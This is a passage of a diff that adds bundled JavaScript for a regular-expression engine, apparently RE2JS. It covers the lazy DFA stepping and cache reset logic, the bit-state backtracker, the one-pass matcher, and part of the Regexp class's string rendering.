+  *cachedStates() {
+    for (const cached2 of this.stateCache.values()) if (cached2 instanceof DFAState) yield cached2;
+    else yield* cached2;
+  }
+  makeState(pcs, flag, ids) {
+    const closure = this.closure(pcs, flag & DFA2.FLAG_EMPTY_MASK);
+    let stateFlag = flag;
+    if (closure.needflags === 0) stateFlag &= DFA2.FLAG_MATCH;
+    stateFlag |= closure.needflags << DFA2.FLAG_NEED_SHIFT;
+    return this.getState(closure.pcs, stateFlag, ids);
+  }
+  allocTable(state, anchor2) {
+    const size = this.numClasses + 1;
+    const cost = DFA2.TABLE_OVERHEAD + DFA2.ELEMENT_SIZE * size;
+    if (this.memBudget < cost) return null;
+    this.memBudget -= cost;
+    const table = new Array(size).fill(null);
+    if (anchor2 === RE2Flags.UNANCHORED) state.next = table;
+    else state.nextAnchored = table;
+    return table;
+  }
+  clearCache() {
+    this.stateCache.clear();
+    this.stateCount = 0;
+    this.startStates.clear();
+    this.memBudget = this.stateBudget;
+  }
+  resetCache(current) {
+    this.clearCache();
+    return this.getState(current.nfaStates, current.flag, current.matchIDs);
+  }
+  step(state, cls, rune, anchor2) {
+    let table = anchor2 === RE2Flags.UNANCHORED ? state.next : state.nextAnchored;
+    if (table !== null) {
+      const cached2 = table[cls];
+      if (cached2 !== null) return cached2;
+    } else {
+      table = this.allocTable(state, anchor2);
+      if (table === null) return null;
+    }
+    const needflag = state.flag >>> DFA2.FLAG_NEED_SHIFT;
+    const oldbeforeflag = state.flag & DFA2.FLAG_EMPTY_MASK;
+    let beforeflag = oldbeforeflag;
+    let afterflag = 0;
+    if (rune === 10) {
+      beforeflag |= Utils.EMPTY_END_LINE;
+      afterflag |= Utils.EMPTY_BEGIN_LINE;
+    }
+    if (rune === END_TEXT) beforeflag |= Utils.EMPTY_END_LINE | Utils.EMPTY_END_TEXT;
+    const islastword = (state.flag & DFA2.FLAG_LAST_WORD) !== 0;
+    const isword = rune !== END_TEXT && Utils.isWordRune(rune);
+    beforeflag |= isword === islastword ? Utils.EMPTY_NO_WORD_BOUNDARY : Utils.EMPTY_WORD_BOUNDARY;
+    let pcs = state.nfaStates;
+    if ((beforeflag & ~oldbeforeflag & needflag) !== 0) pcs = this.closure(pcs, beforeflag).pcs;
+    const nextPCs = [];
+    let ismatch = false;
+    let ids = NO_IDS;
+    for (let i = 0; i < pcs.length; i++) {
+      const inst = this.prog.getInst(pcs[i]);
+      if (inst.op === Inst.MATCH) {
+        if (!ismatch) {
+          ismatch = true;
+          ids = [];
+        }
+        ids.push(inst.arg);
+      } else if (rune !== END_TEXT && Inst.isRuneOp(inst.op) && inst.matchRune(rune)) nextPCs.push(inst.out);
+    }
+    if (ids.length > 1) ids.sort((a, b) => a - b);
+    if (anchor2 === RE2Flags.UNANCHORED && rune !== END_TEXT) nextPCs.push(this.prog.start);
+    let flag = afterflag;
+    if (ismatch) flag |= DFA2.FLAG_MATCH;
+    if (isword) flag |= DFA2.FLAG_LAST_WORD;
+    const nextState = this.makeState(nextPCs, flag, ids);
+    if (nextState === null) return null;
+    table[cls] = nextState;
+    return nextState;
+  }
+  start(input, pos) {
+    const context = input.context(pos);
+    let flags;
+    if ((context & Utils.EMPTY_BEGIN_TEXT) !== 0) flags = Utils.EMPTY_BEGIN_TEXT | Utils.EMPTY_BEGIN_LINE;
+    else if ((context & Utils.EMPTY_BEGIN_LINE) !== 0) flags = Utils.EMPTY_BEGIN_LINE;
+    else {
+      const r = input.step(pos);
+      const nextIsWord = r >= 0 && Utils.isWordRune(r >> 3);
+      flags = (context & Utils.EMPTY_WORD_BOUNDARY) !== 0 !== nextIsWord ? DFA2.FLAG_LAST_WORD : 0;
+    }
+    let state = this.startStates.get(flags);
+    if (state === void 0) {
+      state = this.makeState([this.prog.start], flags, NO_IDS);
+      if (state === null) {
+        this.clearCache();
+        state = this.makeState([this.prog.start], flags, NO_IDS);
+        if (state === null) return null;
+      }
+      this.startStates.set(flags, state);
+    }
+    return state;
+  }
+  stepOrReset(state, cls, rune, anchor2, pos, search) {
+    let next = this.step(state, cls, rune, anchor2);
+    if (next !== null) return next;
+    if (search.resetPos >= 0 && pos - search.resetPos < DFA2.PROGRESS_PER_STATE * this.stateCount) return null;
+    search.resetPos = pos;
+    const restored = this.resetCache(state);
+    if (restored === null) return null;
+    next = this.step(restored, cls, rune, anchor2);
+    return next;
+  }
+  run(input, pos, anchor2, state, onMatch) {
+    const endPos = input.endPos();
+    const latin1Class = this.latin1Class;
+    const unanchored = anchor2 === RE2Flags.UNANCHORED;
+    const search = { resetPos: -1 };
+    let i = pos;
+    while (i < endPos) {
+      const r = input.step(i);
+      const rune = r >> 3;
+      const width = r & 7;
+      if (width === 0) break;
+      const cls = rune <= Unicode.MAX_LATIN1 ? latin1Class[rune] : this.runeClass(rune);
+      let next = unanchored && state.next !== null ? state.next[cls] : null;
+      if (next === null) {
+        next = this.stepOrReset(state, cls, rune, anchor2, i, search);
+        if (next === null) return null;
+      }
+      state = next;
+      if (state.isMatch && onMatch(state, false)) return true;
+      if (!unanchored && state.nfaStates.length === 0) return false;
+      i += width;
+    }
+    state = this.stepOrReset(state, this.numClasses, END_TEXT, anchor2, i, search);
+    if (state === null) return null;
+    return state.isMatch && onMatch(state, true);
+  }
+  match(input, pos, anchor2) {
+    if (this.failed) return null;
+    if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && pos !== 0) return false;
+    const startState = this.start(input, pos);
+    if (startState === null) return null;
+    return this.run(input, pos, anchor2, startState, (state, atEnd) => anchor2 !== RE2Flags.ANCHOR_BOTH || atEnd);
+  }
+  matchSet(input, pos, anchor2) {
+    if (this.failed) return null;
+    if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && pos !== 0) return [];
+    const startState = this.start(input, pos);
+    if (startState === null) return null;
+    const matches3 = /* @__PURE__ */ new Set();
+    const collect = (state, atEnd) => {
+      if (anchor2 !== RE2Flags.ANCHOR_BOTH || atEnd) for (let k = 0; k < state.matchIDs.length; k++) matches3.add(state.matchIDs[k]);
+      return false;
+    };
+    if (this.run(input, pos, anchor2, startState, collect) === null) return null;
+    return Array.from(matches3).sort((a, b) => a - b);
+  }
+};
+var VISITED_BITS = 32;
+var MAX_BACKTRACK_PROG = 500;
+var INITIAL_JOB_CAPACITY = 256;
+var MAX_BACKTRACK_VECTOR = 262144;
+var BitState = class {
+  constructor() {
+    this.end = 0;
+    this.cap = /* @__PURE__ */ new Int32Array(0);
+    this.matchcap = /* @__PURE__ */ new Int32Array(0);
+    this.ncap = 0;
+    this.jobPc = new Int32Array(INITIAL_JOB_CAPACITY);
+    this.jobArg = new Uint8Array(INITIAL_JOB_CAPACITY);
+    this.jobPos = new Int32Array(INITIAL_JOB_CAPACITY);
+    this.jobLen = 0;
+    this.visited = /* @__PURE__ */ new Uint32Array(0);
+  }
+  reset(prog, end, ncap) {
+    this.end = end;
+    this.jobLen = 0;
+    this.ncap = ncap;
+    const visitedSize = prog.numInst() * (end + 1) + VISITED_BITS - 1 >>> 5;
+    if (this.visited.length < visitedSize) this.visited = new Uint32Array(visitedSize);
+    else this.visited.fill(0, 0, visitedSize);
+    if (this.cap.length < ncap) this.cap = new Int32Array(ncap).fill(-1);
+    else this.cap.fill(-1, 0, ncap);
+    if (this.matchcap.length < ncap) this.matchcap = new Int32Array(ncap).fill(-1);
+    else this.matchcap.fill(-1, 0, ncap);
+  }
+  shouldVisit(pc, pos) {
+    const n = pc * (this.end + 1) + pos;
+    const idx = n >>> 5;
+    const mask = 1 << (n & 31);
+    if ((this.visited[idx] & mask) !== 0) return false;
+    this.visited[idx] |= mask;
+    return true;
+  }
+  push(re2, pc, pos, arg) {
+    if (re2.prog.getInst(pc).op !== Inst.FAIL && (arg || this.shouldVisit(pc, pos))) {
+      if (this.jobLen >= this.jobPc.length) {
+        const newSize = this.jobPc.length * 2;
+        const newPc = new Int32Array(newSize);
+        newPc.set(this.jobPc);
+        this.jobPc = newPc;
+        const newArg = new Uint8Array(newSize);
+        newArg.set(this.jobArg);
+        this.jobArg = newArg;
+        const newPos = new Int32Array(newSize);
+        newPos.set(this.jobPos);
+        this.jobPos = newPos;
+      }
+      this.jobPc[this.jobLen] = pc;
+      this.jobArg[this.jobLen] = arg ? 1 : 0;
+      this.jobPos[this.jobLen] = pos;
+      this.jobLen++;
+    }
+  }
+  tryBacktrack(re2, input, pc, pos, anchor2) {
+    const longest = re2.longest;
+    this.push(re2, pc, pos, false);
+    while (this.jobLen > 0) {
+      this.jobLen--;
+      let currentPc = this.jobPc[this.jobLen];
+      let arg = this.jobArg[this.jobLen] === 1;
+      let currentPos = this.jobPos[this.jobLen];
+      let skipShouldVisit = true;
+      while (true) {
+        if (!skipShouldVisit) {
+          if (!this.shouldVisit(currentPc, currentPos)) break;
+        }
+        skipShouldVisit = false;
+        const inst = re2.prog.getInst(currentPc);
+        switch (inst.op) {
+          case Inst.FAIL:
+            break;
+          case Inst.ALT:
+            if (arg) {
+              arg = false;
+              currentPc = inst.arg;
+              continue;
+            } else {
+              this.push(re2, currentPc, currentPos, true);
+              currentPc = inst.out;
+              continue;
+            }
+          case Inst.ALT_MATCH: {
+            const outInst = re2.prog.getInst(inst.out);
+            if (Inst.isRuneOp(outInst.op)) {
+              this.push(re2, inst.arg, currentPos, false);
+              currentPc = inst.arg;
+              currentPos = this.end;
+              continue;
+            }
+            this.push(re2, inst.out, this.end, false);
+            currentPc = inst.out;
+            continue;
+          }
+          case Inst.RUNE: {
+            const r = input.step(currentPos);
+            if (r === MachineInputBase.EOF()) break;
+            if (!inst.matchRune(r >> 3)) break;
+            currentPos += r & 7;
+            currentPc = inst.out;
+            continue;
+          }
+          case Inst.RUNE1: {
+            const r = input.step(currentPos);
+            if (r === MachineInputBase.EOF()) break;
+            if (r >> 3 !== inst.runes[0]) break;
+            currentPos += r & 7;
+            currentPc = inst.out;
+            continue;
+          }
+          case Inst.RUNE_ANY_NOT_NL: {
+            const r = input.step(currentPos);
+            if (r === MachineInputBase.EOF()) break;
+            if (r >> 3 === 10) break;
+            currentPos += r & 7;
+            currentPc = inst.out;
+            continue;
+          }
+          case Inst.RUNE_ANY: {
+            const r = input.step(currentPos);
+            if (r === MachineInputBase.EOF()) break;
+            currentPos += r & 7;
+            currentPc = inst.out;
+            continue;
+          }
+          case Inst.CAPTURE:
+            if (arg) {
+              this.cap[inst.arg] = currentPos;
+              break;
+            } else {
+              if (inst.arg < this.ncap) {
+                this.push(re2, currentPc, this.cap[inst.arg], true);
+                this.cap[inst.arg] = currentPos;
+              }
+              currentPc = inst.out;
+              continue;
+            }
+          case Inst.EMPTY_WIDTH: {
+            const flag = input.context(currentPos);
+            if ((inst.arg & ~flag) !== 0) break;
+            currentPc = inst.out;
+            continue;
+          }
+          case Inst.NOP:
+            currentPc = inst.out;
+            continue;
+          case Inst.MATCH: {
+            if (anchor2 === RE2Flags.ANCHOR_BOTH && currentPos !== this.end) break;
+            if (this.ncap === 0) return true;
+            if (this.ncap > 1) this.cap[1] = currentPos;
+            const old = this.matchcap[1];
+            if (old === -1 || longest && currentPos > 0 && currentPos > old) this.matchcap.set(this.cap);
+            if (!longest) return true;
+            if (currentPos === this.end) return true;
+            break;
+          }
+          case Inst.LB_WRITE:
+          case Inst.LB_CHECK:
+            throw new RE2JSInternalException("Backtracker cannot evaluate Lookbehind instructions");
+          default:
+            throw new RE2JSInternalException("bad inst");
+        }
+        break;
+      }
+    }
+    return longest && this.matchcap.length > 1 && this.matchcap[1] >= 0;
+  }
+};
+var bitStatePool = [];
+var Backtracker = class Backtracker2 {
+  static shouldBacktrack(prog) {
+    return prog.numInst() <= MAX_BACKTRACK_PROG;
+  }
+  static maxBitStateLen(prog) {
+    if (!Backtracker2.shouldBacktrack(prog)) return 0;
+    return Math.floor(MAX_BACKTRACK_VECTOR / prog.numInst());
+  }
+  static execute(re2, input, pos, anchor2, ncap) {
+    const startCond = re2.cond;
+    if (startCond === Utils.EMPTY_ALL) return null;
+    if ((anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) && pos !== 0) return null;
+    if ((startCond & Utils.EMPTY_BEGIN_TEXT) !== 0 && pos !== 0) return null;
+    const b = bitStatePool.length > 0 ? bitStatePool.pop() : new BitState();
+    const end = input.endPos();
+    b.reset(re2.prog, end, ncap);
+    let matched = false;
+    if ((startCond & Utils.EMPTY_BEGIN_TEXT) !== 0 || anchor2 === RE2Flags.ANCHOR_START || anchor2 === RE2Flags.ANCHOR_BOTH) {
+      if (b.ncap > 0) b.cap[0] = pos;
+      if (b.tryBacktrack(re2, input, re2.prog.start, pos, anchor2)) matched = true;
+    } else {
+      let width = -1;
+      for (; pos <= end && width !== 0; pos += width) {
+        if (re2.prefix.length > 0) {
+          const advance = input.index(re2, pos);
+          if (advance < 0) break;
+          pos += advance;
+        }
+        if (b.ncap > 0) b.cap[0] = pos;
+        if (b.tryBacktrack(re2, input, re2.prog.start, pos, anchor2)) {
+          matched = true;
+          break;
+        }
+        const r = input.step(pos);
+        width = r === MachineInputBase.EOF() ? 0 : r & 7;
+      }
+    }
+    if (!matched) {
+      bitStatePool.push(b);
+      return null;
+    }
+    const result = ncap === 0 ? [] : Utils.toArray(b.matchcap.subarray(0, ncap));
+    bitStatePool.push(b);
+    return result;
+  }
+};
+var QueueOnePass = class {
+  constructor(size) {
+    this.sparse = new Uint32Array(size);
+    this.dense = new Uint32Array(size);
+    this.size = 0;
+    this.nextIndex = 0;
+  }
+  empty() {
+    return this.nextIndex >= this.size;
+  }
+  next() {
+    return this.dense[this.nextIndex++];
+  }
+  clear() {
+    this.size = 0;
+    this.nextIndex = 0;
+  }
+  contains(u) {
+    return u < this.sparse.length && this.sparse[u] < this.size && this.dense[this.sparse[u]] === u;
+  }
+  insert(u) {
+    if (!this.contains(u)) this.insertNew(u);
+  }
+  insertNew(u) {
+    if (u >= this.sparse.length) return;
+    this.sparse[u] = this.size;
+    this.dense[this.size] = u;
+    this.size++;
+  }
+};
+var mergeRuneSets = (leftRunes, rightRunes, leftPC, rightPC) => {
+  const leftLen = leftRunes.length;
+  const rightLen = rightRunes.length;
+  let lx = 0, rx = 0;
+  const merged = [];
+  const next = [];
+  let ok = true;
+  let ix = -1;
+  const extend = (isLeft) => {
+    const newArray = isLeft ? leftRunes : rightRunes;
+    const low = isLeft ? lx : rx;
+    const pc = isLeft ? leftPC : rightPC;
+    if (ix > 0 && newArray[low] <= merged[ix]) return false;
+    merged.push(newArray[low], newArray[low + 1]);
+    if (isLeft) lx += 2;
+    else rx += 2;
+    ix += 2;
+    next.push(pc);
+    return true;
+  };
+  while (lx < leftLen || rx < rightLen) {
+    if (rx >= rightLen) ok = extend(true);
+    else if (lx >= leftLen) ok = extend(false);
+    else if (rightRunes[rx] < leftRunes[lx]) ok = extend(false);
+    else ok = extend(true);
+    if (!ok) return null;
+  }
+  return {
+    merged,
+    next
+  };
+};
+var OnePassProg = class {
+  constructor(prog) {
+    this.start = prog.start;
+    this.numCap = prog.numCap;
+    this.inst = new Array(prog.inst.length);
+    for (let i = 0; i < prog.inst.length; i++) {
+      const orig = prog.inst[i];
+      const inst = new Inst(orig.op);
+      inst.out = orig.out;
+      inst.arg = orig.arg;
+      inst.runes = orig.runes ? new Int32Array(orig.runes) : /* @__PURE__ */ new Int32Array(0);
+      inst.next = null;
+      this.inst[i] = inst;
+    }
+  }
+};
+var onePassCopy = (prog) => {
+  const p = new OnePassProg(prog);
+  for (let pc = 0; pc < p.inst.length; pc++) {
+    const inst = p.inst[pc];
+    if (inst.op !== Inst.ALT && inst.op !== Inst.ALT_MATCH) continue;
+    let pAOther = "out";
+    let pAAlt = "arg";
+    let instAlt = p.inst[inst[pAAlt]];
+    if (instAlt.op !== Inst.ALT && instAlt.op !== Inst.ALT_MATCH) {
+      pAOther = "arg";
+      pAAlt = "out";
+      instAlt = p.inst[inst[pAAlt]];
+      if (instAlt.op !== Inst.ALT && instAlt.op !== Inst.ALT_MATCH) continue;
+    }
+    const instOther = p.inst[inst[pAOther]];
+    if (instOther.op === Inst.ALT || instOther.op === Inst.ALT_MATCH) continue;
+    let pBAlt = "out";
+    let pBOther = "arg";
+    let patch = false;
+    if (instAlt.out === pc) patch = true;
+    else if (instAlt.arg === pc) {
+      patch = true;
+      pBAlt = "arg";
+      pBOther = "out";
+    }
+    if (patch) instAlt[pBAlt] = inst[pAOther];
+    if (inst[pAOther] === instAlt[pBAlt]) inst[pAAlt] = instAlt[pBOther];
+  }
+  return p;
+};
+var makeOnePass = (p) => {
+  if (p.inst.length >= 1e3) return null;
+  const instQueue = new QueueOnePass(p.inst.length);
+  const visitQueue = new QueueOnePass(p.inst.length);
+  const onePassRunes = new Array(p.inst.length);
+  const m = new Array(p.inst.length).fill(false);
+  const check = (pc) => {
+    let ok = true;
+    const inst = p.inst[pc];
+    if (visitQueue.contains(pc)) return true;
+    visitQueue.insert(pc);
+    switch (inst.op) {
+      case Inst.ALT:
+      case Inst.ALT_MATCH: {
+        ok = check(inst.out) && check(inst.arg);
+        let matchOut = m[inst.out];
+        let matchArg = m[inst.arg];
+        if (matchOut && matchArg) return false;
+        if (matchArg) {
+          const tempOut = inst.out;
+          inst.out = inst.arg;
+          inst.arg = tempOut;
+          const tempMatch = matchOut;
+          matchOut = matchArg;
+          matchArg = tempMatch;
+        }
+        if (matchOut) {
+          m[pc] = true;
+          inst.op = Inst.ALT_MATCH;
+        }
+        const leftRunes = onePassRunes[inst.out] || [];
+        const rightRunes = onePassRunes[inst.arg] || [];
+        const mergeRes = mergeRuneSets(leftRunes, rightRunes, inst.out, inst.arg);
+        if (!mergeRes) return false;
+        onePassRunes[pc] = new Int32Array(mergeRes.merged);
+        inst.next = new Uint32Array(mergeRes.next);
+        break;
+      }
+      case Inst.CAPTURE:
+      case Inst.EMPTY_WIDTH:
+      case Inst.NOP:
+        ok = check(inst.out);
+        m[pc] = m[inst.out];
+        onePassRunes[pc] = onePassRunes[inst.out] ? new Int32Array(onePassRunes[inst.out]) : /* @__PURE__ */ new Int32Array(0);
+        inst.next = new Uint32Array(Math.floor(onePassRunes[pc].length / 2) + 1).fill(inst.out);
+        break;
+      case Inst.MATCH:
+      case Inst.FAIL:
+        m[pc] = inst.op === Inst.MATCH;
+        break;
+      case Inst.RUNE: {
+        m[pc] = false;
+        if (inst.next && inst.next.length > 0) break;
+        instQueue.insert(inst.out);
+        if (!inst.runes || inst.runes.length === 0) {
+          onePassRunes[pc] = /* @__PURE__ */ new Int32Array(0);
+          inst.next = new Uint32Array([inst.out]);
+          break;
+        }
+        let runes = [];
+        if (inst.runes.length === 1 && (inst.arg & RE2Flags.FOLD_CASE) !== 0) {
+          const r0 = inst.runes[0];
+          runes.push(r0, r0);
+          for (let r1 = Unicode.simpleFold(r0); r1 !== r0; r1 = Unicode.simpleFold(r1)) runes.push(r1, r1);
+          runes.sort((a, b) => a - b);
+        } else for (let j = 0; j < inst.runes.length; j++) runes.push(inst.runes[j]);
+        onePassRunes[pc] = new Int32Array(runes);
+        inst.next = new Uint32Array(Math.floor(runes.length / 2) + 1).fill(inst.out);
+        inst.op = Inst.RUNE;
+        break;
+      }
+      case Inst.RUNE1: {
+        m[pc] = false;
+        if (inst.next && inst.next.length > 0) break;
+        instQueue.insert(inst.out);
+        let runes = [];
+        if ((inst.arg & RE2Flags.FOLD_CASE) !== 0) {
+          const r0 = inst.runes[0];
+          runes.push(r0, r0);
+          for (let r1 = Unicode.simpleFold(r0); r1 !== r0; r1 = Unicode.simpleFold(r1)) runes.push(r1, r1);
+          runes.sort((a, b) => a - b);
+        } else runes.push(inst.runes[0], inst.runes[0]);
+        onePassRunes[pc] = new Int32Array(runes);
+        inst.next = new Uint32Array(Math.floor(runes.length / 2) + 1).fill(inst.out);
+        inst.op = Inst.RUNE;
+        break;
+      }
+      case Inst.RUNE_ANY:
+        m[pc] = false;
+        if (inst.next && inst.next.length > 0) break;
+        instQueue.insert(inst.out);
+        onePassRunes[pc] = new Int32Array([0, Unicode.MAX_RUNE]);
+        inst.next = new Uint32Array([inst.out]);
+        break;
+      case Inst.RUNE_ANY_NOT_NL:
+        m[pc] = false;
+        if (inst.next && inst.next.length > 0) break;
+        instQueue.insert(inst.out);
+        onePassRunes[pc] = new Int32Array([
+          0,
+          9,
+          11,
+          Unicode.MAX_RUNE
+        ]);
+        inst.next = new Uint32Array(Math.floor(onePassRunes[pc].length / 2) + 1).fill(inst.out);
+    }
+    return ok;
+  };
+  instQueue.clear();
+  instQueue.insert(p.start);
+  while (!instQueue.empty()) {
+    visitQueue.clear();
+    if (!check(instQueue.next())) return null;
+  }
+  for (let i = 0; i < p.inst.length; i++) if (onePassRunes[i]) p.inst[i].runes = onePassRunes[i];
+  return p;
+};
+var cleanupOnePass = (p, original) => {
+  for (let ix = 0; ix < original.inst.length; ix++) {
+    const instOriginal = original.inst[ix];
+    switch (instOriginal.op) {
+      case Inst.ALT:
+      case Inst.ALT_MATCH:
+      case Inst.RUNE:
+        break;
+      case Inst.CAPTURE:
+      case Inst.EMPTY_WIDTH:
+      case Inst.NOP:
+      case Inst.MATCH:
+      case Inst.FAIL:
+        p.inst[ix].next = null;
+        break;
+      case Inst.RUNE1:
+      case Inst.RUNE_ANY:
+      case Inst.RUNE_ANY_NOT_NL:
+        p.inst[ix].next = null;
+        p.inst[ix].op = instOriginal.op;
+        p.inst[ix].runes = instOriginal.runes ? new Int32Array(instOriginal.runes) : /* @__PURE__ */ new Int32Array(0);
+    }
+  }
+};
+var OnePass = class OnePass2 {
+  static compile(prog) {
+    if (prog.start === 0) return null;
+    if (prog.numLb > 0) return null;
+    const startInst = prog.inst[prog.start];
+    if (startInst.op !== Inst.EMPTY_WIDTH || (startInst.arg & Utils.EMPTY_BEGIN_TEXT) === 0) return null;
+    let hasAlt = false;
+    for (let i = 0; i < prog.inst.length; i++) if (prog.inst[i].op === Inst.ALT || prog.inst[i].op === Inst.ALT_MATCH) {
+      hasAlt = true;
+      break;
+    }
+    for (let i = 0; i < prog.inst.length; i++) {
+      const inst = prog.inst[i];
+      const opOut = prog.inst[inst.out].op;
+      switch (inst.op) {
+        case Inst.ALT:
+        case Inst.ALT_MATCH:
+          if (opOut === Inst.MATCH || prog.inst[inst.arg].op === Inst.MATCH) return null;
+          break;
+        case Inst.EMPTY_WIDTH:
+          if (opOut === Inst.MATCH) {
+            if ((inst.arg & Utils.EMPTY_END_TEXT) === Utils.EMPTY_END_TEXT) continue;
+            return null;
+          }
+          break;
+        default:
+          if (opOut === Inst.MATCH && hasAlt) return null;
+      }
+    }
+    let p = onePassCopy(prog);
+    p = makeOnePass(p);
+    if (p !== null) cleanupOnePass(p, prog);
+    return p;
+  }
+  static next(inst, r) {
+    const nextIdx = inst.matchRunePos(r);
+    if (nextIdx >= 0) return inst.next[nextIdx];
+    if (inst.op === Inst.ALT_MATCH) return inst.out;
+    return 0;
+  }
+  static execute(re2, input, pos, anchor2, ncap) {
+    const onepass = re2.onepass;
+    if (!onepass) return null;
+    const matchcap = new Int32Array(ncap).fill(-1);
+    let matched = false;
+    let r = input.step(pos);
+    let rune = r >> 3;
+    let width = r & 7;
+    let r1 = MachineInputBase.EOF();
+    let rune1 = -1;
+    let width1 = 0;
+    if (r !== MachineInputBase.EOF()) {
+      r1 = input.step(pos + width);
+      if (r1 !== MachineInputBase.EOF()) {
+        rune1 = r1 >> 3;
+        width1 = r1 & 7;
+      }
+    }
+    let flag = pos === 0 ? Utils.emptyOpContext(-1, rune) : input.context(pos);
+    let pc = onepass.start;
+    let inst;
+    while (true) {
+      inst = onepass.inst[pc];
+      pc = inst.out;
+      switch (inst.op) {
+        case Inst.MATCH:
+          if (anchor2 === RE2Flags.ANCHOR_BOTH && pos !== input.endPos()) return null;
+          matched = true;
+          if (matchcap.length > 0) {
+            matchcap[0] = 0;
+            matchcap[1] = pos;
+          }
+          return ncap === 0 ? [] : Utils.toArray(matchcap);
+        case Inst.RUNE:
+          if (!inst.matchRune(rune)) return null;
+          break;
+        case Inst.RUNE1:
+          if (rune !== inst.runes[0]) return null;
+          break;
+        case Inst.RUNE_ANY:
+          break;
+        case Inst.RUNE_ANY_NOT_NL:
+          if (rune === 10) return null;
+          break;
+        case Inst.ALT:
+        case Inst.ALT_MATCH:
+          pc = OnePass2.next(inst, rune);
+          continue;
+        case Inst.FAIL:
+          return null;
+        case Inst.NOP:
+          continue;
+        case Inst.EMPTY_WIDTH:
+          if ((inst.arg & ~flag) !== 0) return null;
+          continue;
+        case Inst.CAPTURE:
+          if (inst.arg < matchcap.length) matchcap[inst.arg] = pos;
+          continue;
+        default:
+          throw new RE2JSInternalException("bad inst");
+      }
+      if (width === 0) break;
+      flag = Utils.emptyOpContext(rune, rune1);
+      pos += width;
+      rune = rune1;
+      width = width1;
+      if (rune !== -1) {
+        r1 = input.step(pos + width);
+        if (r1 !== MachineInputBase.EOF()) {
+          rune1 = r1 >> 3;
+          width1 = r1 & 7;
+        } else {
+          rune1 = -1;
+          width1 = 0;
+        }
+      }
+    }
+    if (!matched) return null;
+    return ncap === 0 ? [] : Utils.toArray(matchcap);
+  }
+};
+var Regexp = class Regexp2 {
+  static Op = createEnum([
+    "NO_MATCH",
+    "EMPTY_MATCH",
+    "LITERAL",
+    "CHAR_CLASS",
+    "ANY_CHAR_NOT_NL",
+    "ANY_CHAR",
+    "BEGIN_LINE",
+    "END_LINE",
+    "BEGIN_TEXT",
+    "END_TEXT",
+    "WORD_BOUNDARY",
+    "NO_WORD_BOUNDARY",
+    "CAPTURE",
+    "STAR",
+    "PLUS",
+    "QUEST",
+    "REPEAT",
+    "CONCAT",
+    "ALTERNATE",
+    "PLB",
+    "NLB",
+    "LEFT_PAREN",
+    "VERTICAL_BAR"
+  ]);
+  static isPseudoOp(op) {
+    return op >= Regexp2.Op.LEFT_PAREN;
+  }
+  static emptySubs() {
+    return [];
+  }
+  static quoteIfHyphen(rune) {
+    if (rune === Codepoint.CODES["-"]) return "\\";
+    return "";
+  }
+  static fromRegexp(re) {
+    const regex = new Regexp2(re.op);
+    regex.flags = re.flags;
+    regex.subs = re.subs;
+    regex.runes = re.runes;
+    regex.cap = re.cap;
+    regex.min = re.min;
+    regex.max = re.max;
+    regex.name = re.name;
+    regex.namedGroups = re.namedGroups;
+    regex.lb = re.lb;
+    return regex;
+  }
+  constructor(op) {
+    this.op = op;
+    this.flags = 0;
+    this.subs = Regexp2.emptySubs();
+    this.runes = /* @__PURE__ */ new Int32Array(0);
+    this.min = 0;
+    this.max = 0;
+    this.cap = 0;
+    this.name = null;
+    this.namedGroups = /* @__PURE__ */ Object.create(null);
+    this.lb = 0;
+  }
+  reinit() {
+    this.flags = 0;
+    this.subs = Regexp2.emptySubs();
+    this.runes = /* @__PURE__ */ new Int32Array(0);
+    this.cap = 0;
+    this.min = 0;
+    this.max = 0;
+    this.name = null;
+    this.namedGroups = /* @__PURE__ */ Object.create(null);
+    this.lb = 0;
+  }
+  toString() {
+    return this.appendTo();
+  }
+  appendTo() {
+    let out = "";
+    switch (this.op) {
+      case Regexp2.Op.NO_MATCH:
+        out += "[^\\x00-\\x{10FFFF}]";
+        break;
+      case Regexp2.Op.EMPTY_MATCH:
+        out += "(?:)";
+        break;
+      case Regexp2.Op.STAR:
+      case Regexp2.Op.PLUS:
+      case Regexp2.Op.QUEST:
+      case Regexp2.Op.REPEAT: {
+        const sub = this.subs[0];
+        if (sub.op > Regexp2.Op.CAPTURE || sub.op === Regexp2.Op.LITERAL && sub.runes.length > 1) out += `(?:${sub.appendTo()})`;
+        else out += sub.appendTo();
+        switch (this.op) {
+          case Regexp2.Op.STAR:
+            out += "*";
+            break;
+          case Regexp2.Op.PLUS:
+            out += "+";
+            break;
+          case Regexp2.Op.QUEST:
+            out += "?";
+            break;
+          case Regexp2.Op.REPEAT:
+            out += `{${this.min}`;
+            if (this.min !== this.max) {
+              out += ",";
+              if (this.max >= 0) out += this.max;
+            }
+            out += "}";
+        }
+        if ((this.flags & RE2Flags.NON_GREEDY) !== 0) out += "?";
+        break;
+      }
+      case Regexp2.Op.CONCAT:
+        for (let sub of this.subs) if (sub.op === Regexp2.Op.ALTERNATE) out += `(?:${sub.appendTo()})`;
+        else out += sub.appendTo();
+        break;
+      case Regexp2.Op.ALTERNATE: {
+        let sep7 = "";
+        for (let sub of this.subs) {
+          out += sep7;
+          sep7 = "|";
+          out += sub.appendTo();
+        }
+        break;
+      }
+      case Regexp2.Op.LITERAL:
+        if ((this.flags & RE2Flags.FOLD_CASE) !== 0) out += "(?i:";
+        for (let rune of this.runes) out += Utils.escapeRune(rune);
+        if ((this.flags & RE2Flags.FOLD_CASE) !== 0) out += ")";
+        break;
+      case Regexp2.Op.ANY_CHAR_NOT_NL:
+        out += "(?-s:.)";
+        break;
+      case Regexp2.Op.ANY_CHAR:
+        out += "(?s:.)";
+        break;
+      case Regexp2.Op.PLB:
+        out += `(?<=${this.subs[0].appendTo()})`;
+        break;
+      case Regexp2.Op.NLB:
+        out += `(?<!${this.subs[0].appendTo()})`;
+        break;
+      case Regexp2.Op.CAPTURE:
+        if (this.name === null || this.name.length === 0) out += "(";
+        else out += `(?P<${this.name}>`;
+        if (this.subs[0].op !== Regexp2.Op.EMPTY_MATCH) out += this.subs[0].appendTo();
+        out += ")";
+        break;
+      case Regexp2.Op.BEGIN_TEXT:
+        out += "\\A";
+        break;
+      case Regexp2.Op.END_TEXT:
+        if ((this.flags & RE2Flags.WAS_DOLLAR) !== 0) out += "(?-m:$)";
+        else out += "\\z";
+        break;
+      case Regexp2.Op.BEGIN_LINE:
+        out += "^";
+        break;
+      case Regexp2.Op.END_LINE:
+        out += "$";
+        break;
